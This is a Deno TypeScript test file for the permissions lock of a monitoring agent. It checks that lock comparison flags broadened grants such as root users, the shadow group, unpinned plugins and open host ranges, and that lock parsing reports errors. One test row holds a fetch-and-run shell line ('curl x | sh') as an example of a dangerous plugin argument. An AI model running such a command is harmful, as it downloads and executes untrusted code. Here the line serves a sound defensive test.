import { assertEquals, assertStringIncludes, assertThrows } from "@std/assert";
import { AgentError, formatDiagnostic } from "../../src/agent/diagnostic.ts";
import { describeAgent } from "../../src/agent/describe_agent.ts";
import { compareLock, formatGrant, type LockDifference } from "../../src/lock/compare_lock.ts";
import { createLock, formatLock, type Lock } from "../../src/lock/lock.ts";
import { parseLock } from "../../src/lock/parse_lock.ts";
import type { AgentInput } from "../../src/agent/define_agent.ts";
import { type CommandSettings, defineAgent, defineCheck, plugin, shell } from "../../src/mod.ts";
import type { Permissions } from "../../src/check/declared_permissions.ts";

Deno.test("A lock does not depend on the order of the code, and can be parsed back", {
  permissions: "none",
}, () => {
  const check_a = check({ sys: ["loadavg"], read: ["/b", "/a", "/b"] });
  const check_b = plugin(["/opt/b", "$ARG1$"], {
    user: "b",
    sha256: digest,
    acceptArguments: true,
  });
  const one = lock({ check_a, check_b }, { allowedHosts: ["10.0.0.2", "10.0.0.1"], tls: false });
  const other = lock({ check_b, check_a }, { tls: false, allowedHosts: ["10.0.0.1", "10.0.0.2"] });
  assertEquals(formatLock(one), formatLock(other));
  assertEquals(parseLock(formatLock(one), "x"), one);
  assertEquals(one, {
    version: 1,
    module: "agent.ts",
    listen: ["127.0.0.1:5666"],
    allowedHosts: ["10.0.0.1", "10.0.0.2"],
    plainText: true,
    commands: {
      check_a: { kind: "check", permissions: { read: ["/a", "/b"], sys: ["loadavg"] } },
      check_b: {
        kind: "plugin",
        executable: "/opt/b",
        acceptArguments: true,
        user: "b",
        sha256: digest,
      },
    },
  });
});

Deno.test("A lock file has one entry per line", { permissions: "none" }, () => {
  const lines = formatLock(lock({ check: check({ net: ["a:1", "b:2"] }) })).split("\n");
  assertEquals(lines.filter((line) => /"[ab]:\d"/.test(line)).map((line) => line.trim()), [
    '"a:1",',
    '"b:2"',
  ]);
});

Deno.test(
  "compareLock() finds entries that are not granted or no longer needed, and grants narrower ones",
  {
    permissions: "none",
  },
  () => {
    const rows: [was: Commands, is: Commands, more: string[], spare: string[]][] = [
      [{ c: check({}) }, { c: check({}) }, [], []],
      [{ c: check({ net: ["h:1"] }) }, { c: check({ net: ["h:1", "h:2"] }) }, ["c net h:2"], []],
      [{ c: check({ net: ["h"] }) }, { c: check({ net: ["H:2"] }) }, [], []],
      [
        { c: check({ net: ["h:1"] }) },
        { c: check({ net: ["h"] }) },
        ["c net h allows any port of that host"],
        ["c net h:1"],
      ],
      [{ c: check({ read: ["/srv"] }) }, { c: check({ read: ["/srv/a", "/srv/b"] }) }, [], []],
      [
        { c: check({ read: ["/srv/a"] }) },
        { c: check({ read: ["/"] }) },
        ["c read / allows the whole file system"],
        ["c read /srv/a"],
      ],
      // Read permission does not grant write permission, and grants are for one command only.
      [{ c: check({ read: ["/a"] }) }, { c: check({ write: ["/a"] }) }, ["c write /a"], [
        "c read /a",
      ]],
      [
        { a: check({ sys: ["cpus"] }), b: check({}) },
        { a: check({}), b: check({ sys: ["cpus"] }) },
        ["b sys cpus"],
        ["a sys cpus"],
      ],
      [{}, { c: check({ env: ["A"] }) }, ["c env A new"], []],
      [{}, { c: check({}) }, [], []],
      // "constructor" is a property of every object, but not a command of the lock.
      [{}, { constructor: check({ env: ["A"] }) }, ["constructor env A new"], []],
      [{ c: check({ env: ["A"] }) }, {}, [], ["c env A"]],
      [{ c: check({}) }, { c: check({}, { acceptArguments: true }) }, [
        "c arguments from the wire",
      ], []],
      [{ c: plugin(["/p", "a"]) }, { c: plugin(["/p", "b"]) }, [], []],
      [{ c: plugin(["/p"]) }, { c: plugin(["/q"]) }, ["c plugin /q"], ["c plugin /p"]],
      // The arguments of a program that can start any other are a program themselves.
      [
        { c: plugin(["/bin/sh", "/opt/c.sh"]) },
        { c: plugin(["/bin/sh", "-c", "curl x | sh"]) },
        ['c plugin /bin/sh -c "curl x | sh"'],
        ["c plugin /bin/sh /opt/c.sh"],
      ],
      [{ c: plugin(["/p"]) }, { c: plugin(["/p"], { user: "root" }) }, ["c plugin /p as root"], [
        "c plugin /p",
      ]],
      [{ c: plugin(["/p"]) }, { c: plugin(["/p"], { group: "shadow" }) }, [
        "c plugin /p in group shadow",
      ], ["c plugin /p"]],
      // Pinning a plugin requests less; unpinning it requests more.
      [{ c: plugin(["/p"]) }, { c: plugin(["/p"], { sha256: digest }) }, [], []],
      [{ c: plugin(["/p"], { sha256: digest }) }, { c: plugin(["/p"]) }, ["c plugin /p"], [
        "c plugin /p (SHA-256 abababababab…)",
      ]],
      [{ c: check({}) }, { c: plugin(["/p"]) }, ["c plugin /p"], []],
      [{ c: shell("df") }, { c: shell("df -h") }, ["c shell line df -h"], ["c shell line df"]],
      [{ c: shell("df", { user: "root" }) }, { c: shell("df as root") }, [
        "c shell line df as root",
      ], ["c shell line df as root"]],
    ];
    for (const [was, is, more, spare] of rows) {
      const difference = compareLock(lock(was), lock(is));
      assertEquals(shown(difference), { more, spare });
    }
  },
);

Deno.test("compareLock() finds a new prefix of plugins and shell lines of host settings", {
  permissions: "none",
}, () => {
  const commands = { c: plugin(["/p"]), s: shell("df") };
  const is = lock(commands, { pluginPrefix: ["/usr/bin/sudo", "-n"], hostShell: true });
  assertEquals(shown(compareLock(lock(commands), is)), {
    more: ["host settings may define shell lines", "c plugin /p started by /usr/bin/sudo -n"],
    spare: ["c plugin /p"],
  });
  assertEquals(parseLock(formatLock(is), "x"), is);
  assertEquals(shown(compareLock(is, is)), { more: [], spare: [] });
});

Deno.test("compareLock() finds new addresses, new allowed hosts and plain text", {
  permissions: "none",
}, () => {
  const was = lock({ c: check({}) }, { listen: "127.0.0.1:5666", allowedHosts: ["10.0.0.1"] });
  const is = lock({ c: check({}) }, { listen: "[::]:1", allowedHosts: ["0.0.0.0/0"], tls: false });
  assertEquals(shown(compareLock(was, is)), {
    more: ["listen [::]:1", "allowed host 0.0.0.0/0", "plain text without TLS"],
    spare: ["listen 127.0.0.1:5666", "allowed host 10.0.0.1"],
  });
});

Deno.test("parseLock() reports all errors of a lock", { permissions: "none" }, () => {
  const good = lock({ c: check({ read: ["/a"] }) });
  const rows: [file: unknown, errors: string[]][] = [
    ["{", ["lock: Cannot parse JSON: "]],
    [[], ["lock: Invalid value []"]],
    ["null", ["lock: Invalid value null"]],
    [{ ...good, version: 2, foo: 1 }, ["lock.version: Unknown version 2: expected 1"]],
    [{ version: 1 }, [
      ...["module", "listen", "allowedHosts", "commands"].map((name) =>
        `lock.${name}: Missing ${name}: expected a value`
      ),
    ]],
    [{ ...good, listen: "x", extra: 1 }, [
      'lock.listen: Invalid value "x": expected a list',
      'lock.extra: Unknown setting "extra"',
    ]],
    [{
      ...good,
      commands: {
        a: { kind: "check" },
        b: { kind: "check", permissions: { read: ["relative"], all: [] } },
        c: { kind: "plugin", executable: "sh", sha256: "1" },
        d: { kind: "shell" },
        e: { kind: "other" },
        f: null,
        g: { kind: "check", permissions: {}, line: "x", acceptArguments: "yes" },
      },
    }, [
      "lock.commands.a.permissions: Missing permissions: expected a value",
      'lock.commands.b.permissions.read[0]: Invalid value "relative"',
      'lock.commands.b.permissions.all: Unknown setting "all"',
      'lock.commands.c.executable: Invalid value "sh"',
      'lock.commands.c.sha256: Invalid value "1"',
      "lock.commands.d.line: Missing line: expected a value",
      'lock.commands.e.kind: Invalid value "other": expected "check", "plugin" or "shell"',
      'lock.commands.f.kind: Invalid value undefined: expected "check", "plugin" or "shell"',
      'lock.commands.g.line: Unknown setting "line"',
      'lock.commands.g.acceptArguments: Invalid value "yes"',
    ]],
  ];
  for (const [file, errors] of rows) {
    const text = typeof file === "string" ? file : JSON.stringify(file);
    const error = assertThrows(() => parseLock(text, "a/permissions.lock.json"), AgentError);
    const found = (error as AgentError).diagnostics.map(formatDiagnostic);
    for (const [index, expected] of errors.entries()) {
      assertStringIncludes(
        found[index] ?? `nothing, but ${errors[index]} was expected`,
        `error: a/permissions.lock.json: ${expected}`,
      );
    }
    assertEquals(found.length, errors.length, found.join("\n"));
  }
});

type Commands = AgentInput["commands"];

const digest = "ab".repeat(32);

function check(permissions: Permissions, settings: CommandSettings = {}) {
  return defineCheck({ description: "A check", permissions, run: () => "x" })({}, settings);
}

function lock(commands: Commands, settings: Omit<AgentInput, "commands"> = {}): Lock {
  return createLock(
    "agent.ts",
    describeAgent(defineAgent({ ...settings, commands })).manifest,
  );
}

function shown({ more, spare }: LockDifference): { more: string[]; spare: string[] } {
  const name = ({ command }: { command?: string }) => command === undefined ? [] : [command];
  return {
    more: more.map((grant) =>
      [
        ...name(grant),
        formatGrant(grant),
        ...(grant.added ? ["new"] : []),
        ...(grant.broad === undefined ? [] : [grant.broad]),
      ].join(" ")
    ),
    spare: spare.map((grant) => [...name(grant), formatGrant(grant)].join(" ")),
  };
}
